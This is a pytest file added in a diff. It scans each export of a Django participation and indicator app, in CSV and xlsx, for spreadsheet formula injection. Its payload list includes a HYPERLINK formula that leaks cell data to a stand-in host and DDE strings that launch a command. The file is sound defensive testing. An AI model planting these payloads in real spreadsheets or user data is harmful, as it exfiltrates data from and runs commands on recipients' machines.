@@ -1,0 +1,140 @@
+"""Formula injection: every export of the product, scanned cell by cell.
+
+A resident may write a comment starting with `=`, `+`, `-` or `@`; an indicator's source or
+note may start so too. In a spreadsheet such a cell must never be a formula: in CSV no text
+cell starts with one of those characters (defusedcsv puts an apostrophe before it), in
+.xlsx no cell is a formula and every text cell that starts with one is a string cell with
+Excel's quote prefix.
+
+The export URLs are found by walking the URL patterns (every name ending in "export"): a
+new export view fails here until it is scanned.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+from django.urls import reverse
+from django.utils import translation
+from openpyxl import load_workbook
+
+from participation.models import Comment
+from tests.indicators.factories import IndicatorFactory, measure
+from tests.participation.factories import make_comments, make_round
+from tests.security.test_permission_matrix import walk
+
+pytestmark = pytest.mark.django_db
+
+DANGEROUS = ("=", "+", "-", "@")
+NUMBER = re.compile(r"^-?[0-9]+([,.][0-9]+)?$")
+PAYLOADS = [
+    '=HYPERLINK("http://evil.invalid/?leak="&A1;"Klikkaa")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+]
+
+# Every export URL name -> the requests that fetch it (format, query).
+EXPORTS = {
+    "participation:export": [
+        ("csv", {}),
+        ("csv", {"public": "1"}),
+        ("xlsx", {}),
+        ("xlsx", {"public": "1"}),
+    ],
+    "indicators:export": [(None, {})],
+}
+
+
+def test_every_export_view_is_scanned():
+    with translation.override("fi"):
+        names = {e.key for e in walk() if e.name and e.name.endswith("export")}
+    assert names == set(EXPORTS), (
+        f"Export URLs not scanned for formula injection: {sorted(names - set(EXPORTS))}"
+    )
+
+
+def csv_cells(content: bytes) -> list[str]:
+    text = content.decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+
+
+def unsafe_csv_cells(content: bytes) -> list[str]:
+    return [
+        cell
+        for cell in csv_cells(content)
+        if cell.startswith(DANGEROUS) and not NUMBER.match(cell.strip())
+    ]
+
+
+def unsafe_xlsx_cells(content: bytes) -> list[str]:
+    workbook = load_workbook(io.BytesIO(content))
+    found = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    found.append(f"{sheet.title}!{cell.coordinate}: formula {cell.value!r}")
+                elif isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
+                    if cell.data_type != "s" or not cell.quotePrefix:
+                        found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
+    return found
+
+
+@pytest.fixture
+def hostile(project):
+    """A round with comments whose every text field starts like a formula, and an
+    indicator whose name, source and note do."""
+    round = make_round(project)
+    for i, payload in enumerate(PAYLOADS):
+        make_comments(
+            round,
+            1,
+            text=payload,
+            name=payload[:100],
+            show_name=True,
+            email="c@example.invalid",
+            status=Comment.Status.PUBLISHED,
+            disposition="accepted",
+            reason=PAYLOADS[(i + 1) % len(PAYLOADS)],
+        )
+    indicator = IndicatorFactory(
+        project=project, name="=Mittari", name_fi="=Mittari", name_sv="@Mätare"
+    )
+    measure(indicator, "2026", "-1.5", source="+lähde", note="@huomautus")
+    measure(indicator, "2027", "2", source="=1+1", note="-muistiinpano")
+    return round
+
+
+def fetch(client, project, round, name, fmt, query):
+    kwargs = {"region": project.region.slug, "project": project.pk}
+    if name == "participation:export":
+        kwargs.update(round=round.pk, fmt=fmt)
+    response = client.get(reverse(name, kwargs=kwargs), query)
+    assert response.status_code == 200, (name, fmt, query, response.status_code)
+    return response
+
+
+@pytest.mark.parametrize("name", sorted(EXPORTS))
+def test_no_export_has_a_live_formula(login, users, project, hostile, name):
+    client = login(users["preparer"])
+    for fmt, query in EXPORTS[name]:
+        content = fetch(client, project, hostile, name, fmt, query).content
+        if content.startswith(b"PK"):
+            unsafe = unsafe_xlsx_cells(content)
+            assert unsafe == [], (name, fmt, query, unsafe)
+            sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+            texts = {c.value for row in sheet.iter_rows() for c in row}
+            assert PAYLOADS[0] in texts  # shown as typed, not mangled
+        else:
+            cells = csv_cells(content)
+            assert unsafe_csv_cells(content) == [], (name, fmt, query)
+            # the text is still there, after the apostrophe; a negative number stays a number
+            if name == "participation:export":
+                assert "'" + PAYLOADS[2] in cells
+            else:
+                assert "'=Mittari" in cells and "-1,5" in cells and "'+lähde" in cells
